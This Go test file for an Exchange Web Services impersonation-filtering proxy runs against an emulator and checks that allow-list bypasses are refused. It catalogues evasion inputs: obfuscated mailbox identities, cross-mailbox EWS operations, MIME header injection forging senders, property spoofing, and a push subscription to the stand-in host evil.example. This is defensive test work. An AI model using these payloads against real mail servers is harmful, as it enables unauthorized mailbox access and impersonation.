package app

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"hmaproxy/internal/emulator"
)

// TestAttacks sends requests that try to reach the mailbox of
// chief@contoso.com, which is not on the allow-list, although Exchange permits
// alice to open it. None of the requests may reach Exchange, except those for
// aliases, which Exchange refuses. The requests are short, because the
// beginning of a long request is sent before hmaproxy refuses the rest.
func TestAttacks(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newTestProduct(t, emulator.Config{})
		x := s.emu.Exchange()
		chief := x.AddMailbox(emulator.Mailbox{Primary: "chief@contoso.com", Aliases: []string{"chief@subsidiary.example"}})
		alice := ""
		for _, m := range x.Mailboxes() {
			if m.Primary == "alice@contoso.com" {
				alice = m.GUID
			}
		}
		x.Permit("alice@contoso.com", "chief@contoso.com")
		s.env["HMA_ALLOWED_MAILBOXES"] = "alice@contoso.com, *@subsidiary.example, guid:" + alice
		s.env["HMA_ALLOW_LIST_SCOPE"] = "targets"
		s.start()
		defer s.close()
		time.Sleep(time.Second)

		before := x.Count()
		for _, form := range []string{"SmtpAddress", "PrimarySmtpAddress", "PrincipalName", "SID"} {
			for _, name := range identitiesOf(chief) {
				if a := s.asMailbox(form, name, askFolder); a.err == nil && a.header.Get("X-Hmaproxy-Error") == "" {
					t.Errorf("%s %s: %d", form, name, a.status)
				}
			}
		}
		for name, operation := range operationsOn(chief) {
			if a := s.asMailbox("SmtpAddress", "alice@contoso.com", operation); a.err == nil && a.header.Get("X-Hmaproxy-Error") == "" {
				t.Errorf("%s: %d", name, a.status)
			}
		}
		if n := x.Count() - before; n != 0 {
			t.Errorf("%d requests reached Exchange", n)
		}
		for _, form := range []string{"SmtpAddress", "PrimarySmtpAddress"} {
			if a := s.asMailbox(form, "CHIEF@subsidiary.example", askFolder); a.ok() || !strings.Contains(a.text, "ErrorNonPrimarySmtpAddress") {
				t.Errorf("the alias as %s: %d", form, a.status)
			}
		}
	})
}

// identitiesOf returns names that some program may resolve to m, the mailbox of
// chief@contoso.com, or to another mailbox that is not on the allow-list.
func identitiesOf(m emulator.Mailbox) []string {
	bare := strings.ReplaceAll(m.GUID, "-", "")
	return []string{
		"chief@contoso.com", "CHIEF@CONTOSO.COM", "chief@contoso.com.", ".chief@contoso.com", "ch..ief@contoso.com", "(x)chief@contoso.com",
		"chief(x)@contoso.com", "&quot;chief&quot;@contoso.com", "&lt;chief@contoso.com&gt;", "Chief &lt;chief@contoso.com&gt;", "SMTP:chief@contoso.com",
		"smtp:chief@contoso.com", "alice@contoso.com;chief@contoso.com", "alice@contoso.com,chief@contoso.com", "alice@contoso.com chief@contoso.com",
		"alice@contoso.com@contoso.com", "chief%40contoso.com", "chief%contoso.com@subsidiary.example", "@subsidiary.example:chief@contoso.com",
		"chief\\@contoso.com", "CONTOSO\\chief", "chief", "chief@conto\u017fo.com", "ali\u212ae@contoso.com", "al\u0131ce@contoso.com",
		"chief\uff20contoso.com", "\u200balice@contoso.com", "alice@contoso.com\u200b", "alice@contoso.com&#xA0;", "ali&#9;ce@contoso.com", "ali&#10;ce@contoso.com",
		"alice@contoso.com<!-- -->", "<![CDATA[alice@contoso.com]]>", "alice@contoso.com<t:x/>", "*@contoso.com", "*@subsidiary.example", "alice+chief@contoso.com",
		"alice@xn--contoso-.com", "alice@sub.contoso.com", "x@y.subsidiary.example", "/o=Contoso/ou=x/cn=Recipients/cn=chief",
		"EX:/o=Contoso/cn=chief", "IMCEAEX-_O=CONTOSO_CN=CHIEF@subsidiary.example", "imceasmtp-chief+40contoso+2Ecom@subsidiary.example",
		m.GUID, m.GUID + "@subsidiary.example", strings.ToUpper(m.GUID) + "@subsidiary.example", "{" + m.GUID + "}@subsidiary.example",
		bare + "@subsidiary.example", "x" + m.GUID + "@subsidiary.example", "a+" + bare + "@subsidiary.example", "guid:" + m.GUID,
		"SystemMailbox{" + m.GUID + "}@subsidiary.example", "systemmailbox@subsidiary.example", "FederatedEmail.x@subsidiary.example",
		"Migration.x@subsidiary.example", "HealthMailbox1@subsidiary.example", "DiscoverySearchMailbox@subsidiary.example",
		m.SID, "sid:" + m.SID, "upn:chief@contoso.com", "",
	}
}

// operationsOn returns operations for requests that impersonate alice. They name the
// mailbox m or one of its folders, items or attachments, or they reach beyond a
// mailbox.
func operationsOn(m emulator.Mailbox) map[string]string {
	bare := strings.ReplaceAll(m.GUID, "-", "")
	attacks := map[string]string{}
	for name, moniker := range map[string]string{"": m.GUID, " upper case": strings.ToUpper(m.GUID), " without dashes": bare, " braces": "{" + m.GUID + "}", " blanks": " " + bare + "   "} {
		id := attachmentID(moniker)
		for form, spelt := range map[string]string{"": id, ", white space": id[:5] + " &#10;&#9;" + id[5:], ", references": fmt.Sprintf("&#%d;", id[0]) + id[1:]} {
			attacks["item"+name+form] = `<m:GetItem><m:ItemShape><t:BaseShape>Default</t:BaseShape></m:ItemShape><m:ItemIds><t:ItemId Id="` + spelt + `"/></m:ItemIds></m:GetItem>`
			attacks["folder"+name+form] = `<m:FindItem Traversal="Shallow"><m:ParentFolderIds><t:FolderId Id="` + spelt + `"/></m:ParentFolderIds></m:FindItem>`
			attacks["attachment"+name+form] = `<m:GetAttachment><m:AttachmentIds><t:AttachmentId Id="` + spelt + `"/></m:AttachmentIds></m:GetAttachment>`
			attacks["occurrence"+name+form] = `<m:GetItem><m:ItemIds><t:OccurrenceItemId RecurringMasterId="` + spelt + `" InstanceIndex="1"/></m:ItemIds></m:GetItem>`
			attacks["export"+name+form] = `<m:ExportItems><m:ItemIds><t:ItemId Id="` + spelt + `"/></m:ItemIds></m:ExportItems>`
			attacks["convert"+name+form] = `<m:ConvertId DestinationFormat="OwaId"><m:SourceIds><t:AlternateId Format="EwsId" Mailbox="alice@contoso.com" Id="` + spelt + `"/></m:SourceIds></m:ConvertId>`
			attacks["move"+name+form] = `<m:MoveItem><m:ToFolderId><t:DistinguishedFolderId Id="inbox"/></m:ToFolderId><m:ItemIds><t:ItemId Id="` + spelt + `"/></m:ItemIds></m:MoveItem>`
		}
	}
	attacks["item of Exchange 2007"] = `<m:GetItem><m:ItemIds><t:ItemId Id="` + smtpID("chief@contoso.com") + `"/></m:ItemIds></m:GetItem>`

	const mailbox = `<t:EmailAddress>chief@contoso.com</t:EmailAddress>`
	folder := `<m:GetFolder><m:FolderIds><t:DistinguishedFolderId Id="inbox">%s</t:DistinguishedFolderId></m:FolderIds></m:GetFolder>`
	for i, content := range []string{
		`<t:Mailbox>` + mailbox + `</t:Mailbox>`, `<t:Mailbox/>`, `<t:Mailbox><t:Name>chief</t:Name></t:Mailbox>`,
		`<t:Mailbox><t:EmailAddress>alice@contoso.com</t:EmailAddress>` + mailbox + `</t:Mailbox>`,
		`<t:Mailbox xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="t:EmailAddressExtendedType">` + mailbox + `</t:Mailbox>`,
		`<t:Mailbox><t:EmailAddress>chi<!-- -->ef@contoso.com</t:EmailAddress></t:Mailbox>`,
		`<t:Mailbox><t:EmailAddress>alice@contoso.com<![CDATA[]]></t:EmailAddress></t:Mailbox>`,
		`<t:Mailbox><t:EmailAddress>&#x63;hief@contoso.com</t:EmailAddress></t:Mailbox>`,
		`<Mailbox xmlns="http://schemas.microsoft.com/exchange/services/2006/types"><EmailAddress>chief@contoso.com</EmailAddress></Mailbox>`,
		`<t:Mailbox><t:EmailAddress>` + m.GUID + `@subsidiary.example</t:EmailAddress></t:Mailbox>`,
		`<t:Mailbox><t:EmailAddress>/o=Contoso/cn=chief</t:EmailAddress><t:RoutingType>EX</t:RoutingType></t:Mailbox>`,
	} {
		attacks[fmt.Sprint("folder of a mailbox ", i)] = fmt.Sprintf(folder, content)
	}
	for name, operation := range map[string]string{
		"availability":    `<m:GetUserAvailabilityRequest><m:MailboxDataArray><t:MailboxData><t:Email><t:Address>chief@contoso.com</t:Address></t:Email></t:MailboxData></m:MailboxDataArray></m:GetUserAvailabilityRequest>`,
		"out of office":   `<m:GetUserOofSettingsRequest><t:Mailbox><t:Address>chief@contoso.com</t:Address></t:Mailbox></m:GetUserOofSettingsRequest>`,
		"photo":           `<m:GetUserPhoto><m:Email>chief@contoso.com</m:Email></m:GetUserPhoto>`,
		"delegates":       `<m:GetDelegate><m:Mailbox>` + mailbox + `</m:Mailbox></m:GetDelegate>`,
		"rules":           `<m:GetInboxRules><m:MailboxSmtpAddress>chief@contoso.com</m:MailboxSmtpAddress></m:GetInboxRules>`,
		"legacy DN":       `<m:ConvertId DestinationFormat="EwsId"><m:SourceIds><t:AlternateId Format="HexEntryId" Id="00" Mailbox="/o=Contoso/cn=chief"/></m:SourceIds></m:ConvertId>`,
		"archive":         `<m:FindConversation><t:SingleLargeArchiveSearchScope><t:MailboxGuid>` + m.GUID + `</t:MailboxGuid></t:SingleLargeArchiveSearchScope></m:FindConversation>`,
		"push":            `<m:Subscribe><m:PushSubscriptionRequest><t:URL>https://evil.example/</t:URL></m:PushSubscriptionRequest></m:Subscribe>`,
		"unknown":         `<m:GetEverything/>`,
		"another case":    `<m:getclientaccesstoken/>`,
		"other namespace": `<t:GetFolder/>`,
		"two operations":  `<m:GetFolder/><m:GetClientAccessToken/>`,
	} {
		attacks[name] = operation
	}
	for _, name := range strings.Fields("AddAggregatedAccount SetAggregatedAccount GetAggregatedAccount RemoveAggregatedAccount CreateUnifiedMailbox " +
		"SubscribeToPushNotification SetOMEConfiguration SetEncryptionConfiguration UpdateMailboxAssociation GetUMCallDataRecords") {
		attacks[name], attacks[name+"Request"] = "<m:"+name+"/>", "<m:"+name+"Request/>"
	}

	message := `<m:CreateItem MessageDisposition="SendAndSaveCopy"><m:Items><t:Message>%s</t:Message></m:Items></m:CreateItem>`
	for _, element := range strings.Fields("From Sender ReceivedBy ReceivedRepresenting Organizer") {
		attacks["element "+element] = fmt.Sprintf(message, `<t:`+element+`><t:Mailbox>`+mailbox+`</t:Mailbox></t:`+element+`>`)
	}
	for i, head := range []string{
		"From: chief@contoso.com", "FROM : chief@contoso.com", "From:\r\n chief@contoso.com", "From: alice@contoso.com, chief@contoso.com",
		"From: alice@contoso.com <chief@contoso.com>", "From: alice@contoso.com\r\nFrom: chief@contoso.com", "From: alice@contoso.com\r\nSender: chief@contoso.com",
		"From: =?utf-8?q?chief=40contoso=2Ecom?=", "From: g: chief@contoso.com;", "From: (alice@contoso.com) chief@contoso.com", "From: \"chief\"@contoso.com",
		"From: <@alice.example:chief@contoso.com>", "\r\nFrom: chief@contoso.com", "\xef\xbb\xbfFrom: chief@contoso.com", "Fr\x00om: chief@contoso.com",
		"X: y\nFrom: chief@contoso.com\r\nZ: y", "X: y\rFrom: chief@contoso.com", "X: y\r\n \r\nFrom: chief@contoso.com",
	} {
		content := base64.StdEncoding.EncodeToString([]byte(head + "\r\nTo: x@y.example\r\n\r\ntext"))
		attacks[fmt.Sprint("MIME ", i)] = fmt.Sprintf(message, `<t:MimeContent CharacterSet="UTF-8">`+content+`</t:MimeContent>`)
		attacks[fmt.Sprint("MIME with line ends ", i)] = fmt.Sprintf(message, "<t:MimeContent>\n"+content[:4]+"\r\n"+content[4:]+"</t:MimeContent>")
	}
	plain := base64.StdEncoding.EncodeToString([]byte("From: alice@contoso.com\r\n\r\n"))
	for name, element := range map[string]string{
		"UTF-16": `<t:MimeContent CharacterSet="utf-16">` + plain + `</t:MimeContent>`, "UTF-7": `<t:MimeContent CharacterSet="utf-7">` + plain + `</t:MimeContent>`,
		"comment": `<t:MimeContent>` + plain + `<!-- --></t:MimeContent>`, "alphabet of URLs": `<t:MimeContent>-_` + plain + `</t:MimeContent>`,
		"padding": `<t:MimeContent>RnJvbQ==` + plain + `</t:MimeContent>`,
	} {
		attacks["MIME, "+name] = fmt.Sprintf(message, element)
	}
	for _, property := range []string{
		`PropertyTag="0x0065"`, `PropertyTag="101"`, `PropertyTag="0x0C1F"`, `PropertyTag="3103"`, `PropertyTag="0X5d01"`, `PropertyTag=" 0x5D02 "`, `PropertyTag="0x0041"`,
		`PropertyTag="0x0E4D"`, `PropertyTag="0xC0x1F"`, `PropertyTag="+101"`, `PropertySetId="00020328-0000-0000-c000-000000000046" PropertyId="101"`,
		`PropertySetId="{00020328-0000-0000-c000-000000000046}" PropertyId="101"`, `DistinguishedPropertySetId="InternetHeaders" PropertyName="Sender"`,
	} {
		attacks["property "+property] = fmt.Sprintf(message, `<t:ExtendedProperty><t:ExtendedFieldURI `+property+` PropertyType="String"/><t:Value>chief@contoso.com</t:Value></t:ExtendedProperty>`)
	}
	return attacks
}
